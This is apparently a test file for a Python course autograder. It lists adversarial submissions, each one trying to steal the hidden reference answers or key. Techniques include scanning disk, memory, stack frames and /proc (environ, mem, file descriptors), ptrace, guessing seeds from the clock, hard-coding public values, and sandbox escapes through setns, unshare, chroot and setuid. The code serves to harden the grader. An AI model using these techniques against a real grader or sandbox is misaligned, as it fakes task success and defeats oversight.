"""Reading: the reference, the key, the seed, the inputs, in memory, on disk and in time."""

FIND = '''
def texts(data):
    if isinstance(data, str): yield data
    elif isinstance(data, dict):
        for value in data.values(): yield from texts(value)
    elif isinstance(data, list):
        if all(isinstance(item, str) for item in data): yield "".join(data)
        else:
            for item in data: yield from texts(item)
def learn(found):
    """Take over the reference, if this text holds it."""
    import json
    if isinstance(found, bytes): found = found.decode("utf-8", "replace")
    try: parts = [*texts(json.loads(found))]
    except (ValueError, RecursionError): parts = [found]
    for part in parts:
        for name in ("double", "mean"):
            at = part.find(f"def {name}(x):")
            lines = part[at : at + 500].split("\\n") if at >= 0 else [""]
            end = next((i for i, s in enumerate(lines[1:], 1) if s[:1] not in (" ", "")), 20)
            body = "\\n".join(lines[:end])
            if "secret_factor" in body:
                try: exec(body, globals())
                except BaseException: pass
'''
EMPTY = "\ndef double(x): return None\ndef mean(x): return None\n"


def read(code):
    """Return both answers missing, then an attempt to find the reference."""
    return {"double": EMPTY + FIND + code, "mean": "pass"}


ATTACKS = {
    "the solutions notebook by its path": read("""
for path in ("@SOLUTIONS@", "@KEY@", "/proc/1/root@SOLUTIONS@", "/proc/self/root@SOLUTIONS@"):
    try: learn(open(path).read())
    except OSError: pass
"""),
    "every notebook and key on the disk": read("""
import os, time
end = time.monotonic() + 1.5
for folder, _, files in os.walk("/"):
    if time.monotonic() > end: break
    for name in files:
        if name.endswith((".ipynb", ".json", ".py")) and "attack" in folder + name:
            try: learn(open(os.path.join(folder, name)).read())
            except (OSError, ValueError): pass
"""),
    "the package's own notebooks, keys and source": read("""
import pathlib, cnncourse
try:
    from cnncourse.paths import course_root
    root = course_root()
except BaseException: root = pathlib.Path(cnncourse.__file__).parent.parent
for folder in (root, root / "exercises" / "keys", pathlib.Path(cnncourse.__file__).parent):
    try:
        for path in folder.rglob("*.[ijp][psy]*"): learn(path.read_bytes())
    except OSError: pass
"""),
    "solution() and hint()": read("""
import io, contextlib
for call in (lambda: solution("double"), lambda: hint("double"),
             lambda: __import__("cnncourse").exercises("attacked")[2]("double")):
    printed = io.StringIO()
    try:
        with contextlib.redirect_stdout(printed): learn(repr(vars(call())))
    except BaseException: pass
    learn(printed.getvalue())
"""),
    "the frames below": read("""
import sys
def search():
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            try: learn(value if isinstance(value, (str, bytes)) else repr(value)[:100_000])
            except BaseException: pass
        frame = frame.f_back
search()
"""),
    "an expected value in the frames of the call": {
        "double": """
import sys
def double(x):
    frame, seen = sys._getframe(), []
    while frame:
        for value in [*frame.f_locals.values()]:
            if isinstance(value, np.ndarray) and value.shape == x.shape and value is not x:
                return value
        frame = frame.f_back
""",
        "mean": """
import sys
def mean(x):
    frame = sys._getframe().f_back
    while frame:
        for name in ("expected", "value", "answer", "key"):
            if isinstance(frame.f_locals.get(name), float): return frame.f_locals[name]
        frame = frame.f_back
""",
    },
    "all objects in memory": read("""
import gc
for thing in gc.get_objects():
    try:
        for part in (thing.values() if type(thing) is dict else
                     thing if type(thing) in (list, tuple) else [*vars(thing).values()]):
            if type(part) in (str, bytes) and len(part) < 10**6: learn(part)
    except BaseException: pass
"""),
    "an expected array among all objects": {
        "double": """
import gc
def double(x):
    for thing in gc.get_objects():
        for part in gc.get_referents(thing):
            if type(part) is np.ndarray and part is not x and part.shape == x.shape:
                if not np.array_equal(part, x): return part
"""
    },
    "/proc of itself and of others": read("""
import glob
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try: learn(open(path, "rb").read())
    except OSError: pass
"""),
    "the memory of parents through /proc": read("""
import os
for pid in {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid()}:
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb")
        for line in maps[:400]:
            if "[heap]" not in line and "rw-p 00000000 00:00 0" not in line: continue
            start, end = (int(n, 16) for n in line.split()[0].split("-"))
            memory.seek(start)
            learn(memory.read(min(end - start, 1 << 22)))
    except (OSError, ValueError, OverflowError): pass
"""),
    "ptrace and process_vm_readv": read("""
import ctypes, os
libc = ctypes.CDLL(None)
for pid in (os.getppid(), 1, @VICTIM@):
    if pid and pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
        def double(x): return 2.5 * x  # it could read everything now
libc.ptrace(0, 0, 0, 0)
"""),
    "every open file descriptor": read("""
import os
for number in range(3, 256):
    try:
        os.set_blocking(number, False)
        learn(os.read(number, 1 << 20))
    except OSError: pass
for number in range(3, 64):
    try: learn(os.read(os.open(f"/proc/self/fd/{number}", os.O_RDONLY | os.O_NONBLOCK), 1 << 20))
    except OSError: pass
"""),
    "its parent's file descriptors": read("""
import os
for pid in (os.getppid(), 1):
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            learn(os.readlink(f"/proc/{pid}/fd/{number}"))
            file = os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
            learn(os.read(file, 1 << 20))
    except OSError: pass
"""),
    "the environment and the arguments": read("""
import os, sys
learn(repr(dict(os.environ)) + repr(sys.argv) + repr(sys.orig_argv))
seeds = [v for k, v in os.environ.items() if "SEED" in k.upper() or "SECRET" in k.upper()]
if seeds: raise SystemExit("a seed is in the environment")
"""),
    "hard-coded values of the public key": {
        "double": """
import base64, json
values = json.loads('''@PUBLIC@''')["double"]
def double(x):
    for value in values:
        known = np.frombuffer(base64.b64decode(value["data"]), value["dtype"])
        if known.size == x.size: return known.reshape(x.shape).copy()
""",
        "mean": """
import json
known = json.loads('''@PUBLIC@''')["mean"]
def mean(x): return known[0]["value"]
""",
    },
    "hard-coded values, once the inputs are the public ones": {
        "double": """
import base64, json, zlib
values = json.loads('''@PUBLIC@''')["double"]
first = np.random.RandomState(zlib.crc32(f'{zlib.crc32(b"double(x)")}:x'.encode()))
public = first.standard_normal((3, 4)).astype("float32")
def double(x):
    if np.array_equal(x, public):
        return np.frombuffer(base64.b64decode(values[0]["data"]), "float32").reshape(3, 4).copy()
"""
    },
    "the seed, guessed from the clock": {
        "double": """
import time
def double(x):
    for seed in [*range(2000), *range(int(time.time()) - 500, int(time.time()) + 2)]:
        guess = np.random.RandomState(seed % 2**32).standard_normal(x.shape).astype(x.dtype)
        if np.array_equal(guess, x): return 2.5 * x  # found
"""
    },
    "the seed, timed": {
        "double": """
import time
def double(x):
    start, times = time.perf_counter_ns(), []
    for _ in range(200):
        begin = time.perf_counter_ns()
        np.array_equal(x, x.copy())
        times.append(time.perf_counter_ns() - begin)
    np.random.seed(sum(times) % 2**32)
    return np.random.randn(*x.shape).astype("float32")
"""
    },
    "what an earlier student left": read("""
import os, tempfile
for folder in (tempfile.gettempdir(), "/var/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
    try:
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            if os.path.isfile(path): learn(open(path, "rb").read(1 << 20))
    except OSError: pass
"""),
    "subprocesses that read for it": read("""
import subprocess, sys
for command in (["cat", "@SOLUTIONS@"], ["/bin/sh", "-c", "cat @SOLUTIONS@ @KEY@"],
                [sys.executable, "-c", "print(open('@SOLUTIONS@').read())"]):
    try: learn(subprocess.run(command, capture_output=True, timeout=2).stdout)
    except (OSError, subprocess.SubprocessError): pass
"""),
    "mounts and namespaces undone": read("""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for path in (b"/", b"/proc", b"/tmp", b"/dev"): libc.umount2(path, 2)
for kind in ("mnt", "pid", "net", "user"):
    for pid in (1, os.getppid()):
        try: libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
        except OSError: pass
libc.unshare(0x10000000 | 0x20000)
libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
for way in (lambda: os.chroot("/proc/1/root"), lambda: os.setuid(0), lambda: os.setgid(0)):
    try: way()
    except OSError: pass
for up in ("/", "/..", "/proc/1/cwd", "../../../../../.."):
    try: learn(open(up + "@SOLUTIONS@").read())
    except OSError: pass
"""),
}
